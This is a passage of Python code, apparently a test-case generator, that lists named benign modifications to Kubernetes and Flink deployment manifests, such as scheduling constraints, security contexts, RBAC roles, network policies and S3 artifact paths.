        "limits": {"ephemeral-storage": "2Gi"}}}])))
    H("node-selector", (FD, setp(*COMMON, "nodeSelector", value={"node-pool": "flink"})))
    H("tolerations", (FD, setp(*COMMON, "tolerations", value=[{"key": "dedicated", "operator": "Equal",
                                                             "value": "flink", "effect": "NoSchedule"}])))
    H("affinity", (FD, setp(*TM, "affinity", value={"podAntiAffinity": {"preferredDuringSchedulingIgnoredDuringExecution": [
        {"weight": 50, "podAffinityTerm": {"topologyKey": "kubernetes.io/hostname", "labelSelector": {
            "matchLabels": {"component": "taskmanager"}}}}]}})))
    H("topology-spread", (FD, setp(*TM, "topologySpreadConstraints", value=[{
        "maxSkew": 1, "topologyKey": "topology.kubernetes.io/zone", "whenUnsatisfiable": "ScheduleAnyway",
        "labelSelector": {"matchLabels": {"component": "taskmanager"}}}])))
    H("grace-period", (FD, setp(*COMMON, "terminationGracePeriodSeconds", value=60)))
    H("priority-class", (FD, setp(*COMMON, "priorityClassName", value="flink-prod")))
    H("image-pull-secret", (FD, setp(*COMMON, "imagePullSecrets", value=[{"name": "acme-registry"}])))
    H("safe-sysctl", (FD, setp(*COMMON, "securityContext", "sysctls", value=[
        {"name": "net.ipv4.ip_local_port_range", "value": "32768 60999"}])))
    H("bind-service-cap", (FD, setp(*COMMON, "containers", 0, "securityContext", "capabilities", "add",
                                    value=["NET_BIND_SERVICE"])))
    H("seccomp-localhost", (FD, setp(*COMMON, "securityContext", "seccompProfile", value={
        "type": "Localhost", "localhostProfile": "profiles/flink.json"})))
    H("apparmor-runtime-default", (FD, setp(*COMMON, "containers", 0, "securityContext", "appArmorProfile",
                                            value={"type": "RuntimeDefault"})))
    H("selinux-level", (FD, setp(*COMMON, "securityContext", "seLinuxOptions", value={"level": "s0:c123,c456"})))
    H("read-only-root", (FD, setp(*COMMON, "containers", 0, "securityContext", "readOnlyRootFilesystem", value=True)))
    for where, pod in (("jm", JM), ("tm", TM)):  # merged by index into the common main container's drop: [ALL]
        H(f"{where}-drop-list-cannot-undo-common-drop", *((FD, fn) for fn in _main_container(
            pod, ("securityContext", "capabilities", "drop"), [])))
    H("merge-by-name-explicit", (FD, setp(*CONF, "kubernetes.operator.pod-template.merge-arrays-by-name",
                                          value="true")))
    H("rest-cluster-ip", (FD, setp(*CONF, "kubernetes.rest-service.exposed.type", value="ClusterIP")))
    H("own-service-account-conf", (FD, setp(*CONF, "kubernetes.service-account", value="flink")))
    H("hostnetwork-false", (FD, setp(*CONF, "kubernetes.hostnetwork.enabled", value="false")))
    H("jm-annotations", (FD, setp(*CONF, "kubernetes.jobmanager.annotations", value="acme.io/team:analytics")))
    H("ns-label", (NS, setp("metadata", "labels", "acme.io/owner", value="payments")))
    H("operator-replicas", (OP, setp("spec", "replicas", value=2)))
    H("operator-env", (OP, append(*OPPOD, "containers", 0, "env", value={"name": "JVM_ARGS_EXTRA",
                                                                        "value": "-XX:+UseG1GC"})))
    H("app-role-configmaps", add=[{"apiVersion": "rbac.authorization.k8s.io/v1", "kind": "Role",
                                   "metadata": {"name": "reader", "namespace": "analytics-prod", "labels": {
                                       "app.kubernetes.io/part-of": "flink-platform",
                                       "app.kubernetes.io/managed-by": "pulumi"}},
                                   "rules": [{"apiGroups": [""], "resources": ["configmaps"],
                                              "verbs": ["get", "list", "watch"]}]}])
    H("egress-named-cidr", add=[{"apiVersion": "networking.k8s.io/v1", "kind": "NetworkPolicy",
                                 "metadata": {"name": "flink-egress-es", "namespace": "analytics-prod", "labels": {
                                     "app.kubernetes.io/part-of": "flink-platform",
                                     "app.kubernetes.io/managed-by": "pulumi"}},
                                 "spec": {"podSelector": {"matchLabels": {"type": "flink-native-kubernetes"}},
                                          "policyTypes": ["Egress"], "egress": [
                                              {"to": [{"ipBlock": {"cidr": "10.80.0.0/16"}}],
                                               "ports": [{"port": 9200, "protocol": "TCP"}]}]}}])
    H("rest-from-own-namespace", (REST_NP, append("spec", "ingress", 0, "from", value={
        "namespaceSelector": {"matchLabels": {"kubernetes.io/metadata.name": "analytics-reporting-prod"}}})))
    H("secret-by-reference", (FD, setp(*CONF, "s3.secret-key", value="${AWS_SECRET_ACCESS_KEY}")))
    H("credentials-provider", (FD, setp(*CONF, "fs.s3a.aws.credentials.provider",
                                        value="com.amazonaws.auth.WebIdentityTokenCredentialsProvider")))
    H("delegation-tokens", (FD, setp(*CONF, "security.delegation.tokens.enabled", value="false")))
    H("env-password-file", (FD, append(*COMMON, "containers", 0, "env", value={
        "name": "KAFKA_PASSWORD_FILE", "value": "/etc/kafka/password"})))
    H("env-token-refresh", (FD, append(*COMMON, "containers", 0, "env", value={
        "name": "TOKEN_REFRESH_INTERVAL_S", "value": "300"})))
    H("ingress-own-host", add=[{"apiVersion": "networking.k8s.io/v1", "kind": "Ingress", "metadata": {
        "name": "web", "namespace": "analytics-prod"}, "spec": {"ingressClassName": "nginx", "rules": [
            {"host": "sessionize.analytics-prod.flink.acme.internal"}]}}])
    H("flink-ingress-body-size", (("FlinkDeployment", "search-prod", "search-indexer"), setp(
        "spec", "ingress", "annotations", value={"nginx.ingress.kubernetes.io/proxy-body-size": "16m"})))
    H("session-job-parallelism", (FSJ, setp("spec", "job", "parallelism", value=2)))
    H("session-job-jar-new-version", (FSJ, setp("spec", "job", "jarURI", value=(
        "https://acme-flink-prod-artifacts.s3.eu-west-1.amazonaws.com/analytics/daily-revenue-1.4.3.jar"))))
    H("tenant-egress-second-subnet", (("NetworkPolicy", "payments-prod", "flink-egress-kafka"), append(
        "spec", "egress", 0, "to", value={"ipBlock": {"cidr": "10.51.0.0/16"}})))
    H("session-job-own-savepoint", (FSJ, setp("spec", "job", "initialSavepointPath", value=(
        "s3://acme-flink-prod/state/analytics/analytics-reporting-prod/daily-revenue/savepoints/sp-3"))))
    return out
